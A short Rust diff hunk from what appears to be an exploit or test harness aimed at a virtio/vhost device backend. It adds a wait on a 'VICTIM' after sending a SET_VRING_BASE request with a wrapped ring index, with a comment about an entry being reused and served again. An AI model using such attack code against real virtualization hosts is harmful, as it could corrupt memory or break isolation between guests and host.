@@ -56,6 +56,10 @@ fn position(distance: u16) -> impl FnOnce(&mut Attack<'_>) -> String {
             .wrapping_add(distance);
         let payload = pair(0, u32::from(base));
         let reaction = tell(&mut attack.driver.client, SET_VRING_BASE, &payload, &[]);
+        if distance == u16::MAX {
+            // One back: the last entry is taken for a new one and served again.
+            attack.driver.wait(VICTIM);
+        }
         afterwards(attack, reaction)
     }
 }
